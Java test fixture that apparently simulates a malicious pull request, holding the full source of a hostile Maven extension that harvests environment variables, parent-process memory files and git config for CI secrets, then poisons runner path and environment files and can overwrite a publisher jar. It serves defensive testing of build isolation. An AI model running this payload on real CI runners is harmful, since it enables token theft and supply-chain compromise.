package io.github.incidentadvisor.action.whole;

/**
 * What a pull request can make Maven run: it looks for secrets, and for ways to be run again with more rights. It is told where
 * its loot goes, and where the runner keeps its files, which is the same on every runner.
 */
final class Hostile {
    private static final String EXTENSION = """
            import java.nio.file.*;
            import java.util.*;
            import java.util.stream.*;

            public class Evil extends org.apache.maven.AbstractMavenLifecycleParticipant {
                @Override
                public void afterSessionStart(org.apache.maven.execution.MavenSession session) {
                    look();
                }

                @Override
                public void afterProjectsRead(org.apache.maven.execution.MavenSession session) {
                    look();
                }

                private static void look() {
                    try {
                        search("PATHS");
                    } catch (Exception e) {
                        throw new IllegalStateException(e);
                    }
                }

                private static void search(String paths) throws Exception {
                    String loot = paths.split(";")[0];
                    StringBuilder found = new StringBuilder("own environment:\\n");
                    System.getenv().forEach((name, value) -> found.append(name).append('=').append(value).append('\\n'));
                    found.append("end of it\\n");
                    int read = 0;
                    for (ProcessHandle one = ProcessHandle.current(); one != null; one = one.parent().orElse(null)) {
                        if (isTheTest(one.pid())) {
                            break;
                        }
                        for (String file : new String[] {"environ", "cmdline"}) {
                            found.append(text(Path.of("/proc/" + one.pid() + "/" + file))).append('\\n');
                            read++;
                        }
                        try (Stream<Path> open = Files.list(Path.of("/proc/" + one.pid() + "/fd"))) {
                            for (Path fd : open.toList()) {
                                if (!fd.toRealPath().toString().matches(".*\\\\.(jar|so|jsa)") && Files.isRegularFile(fd) && Files.size(fd) < 100_000) {
                                    found.append(text(fd)).append('\\n');
                                }
                            }
                        } catch (Exception e) {
                            // Not Linux, or not ours.
                        }
                    }
                    found.append("processes read: ").append(read).append('\\n');
                    found.append("git config: ").append(text(Path.of(".git/config"))).append('\\n');
                    for (Path root : List.of(Path.of(paths.split(";")[1]))) {
                        try (Stream<Path> files = Files.walk(root)) {
                            for (Path file : files.filter(Files::isRegularFile).toList()) {
                                String name = file.getFileName().toString();
                                if (name.equals("publisher.jar") && REPLACES) {
                                    Files.write(file, new byte[] {1, 2, 3});
                                    found.append("replaced: ").append(name).append('\\n');
                                } else if (name.startsWith("add_path") || name.startsWith("set_env")) {
                                    Files.writeString(file, "/tmp/evil\\n");
                                    found.append("planted: ").append(name).append('\\n');
                                }
                            }
                        } catch (Exception e) {
                            found.append("walk: ").append(e).append('\\n');
                        }
                    }
                    Files.writeString(Path.of(loot), found.toString());
                }

                /** The runner itself: here the JVM of the specs, there a process that holds the token in its memory too. */
                private static boolean isTheTest(long pid) {
                    return text(Path.of("/proc/" + pid + "/cmdline")).contains("surefire") || pid == 1;
                }

                private static String text(Path file) {
                    try {
                        return new String(Files.readAllBytes(file)).replace('\\0', '\\n');
                    } catch (Exception e) {
                        return "(" + e.getClass().getSimpleName() + ")";
                    }
                }
            }
            """;

    private Hostile() {}

    /** What tells Maven that a jar takes part in its life. */
    static final String COMPONENTS = """
            <component-set>
              <components>
                <component>
                  <role>org.apache.maven.AbstractMavenLifecycleParticipant</role>
                  <role-hint>evil</role-hint>
                  <implementation>Evil</implementation>
                </component>
              </components>
            </component-set>
            """;

    /** @param replaces whether it also lays hands on the publisher, which is noticed */
    static String extension(java.nio.file.Path loot, java.nio.file.Path temporary, boolean replaces) {
        return EXTENSION.replace("PATHS", loot + ";" + temporary).replace("REPLACES", String.valueOf(replaces));
    }
}
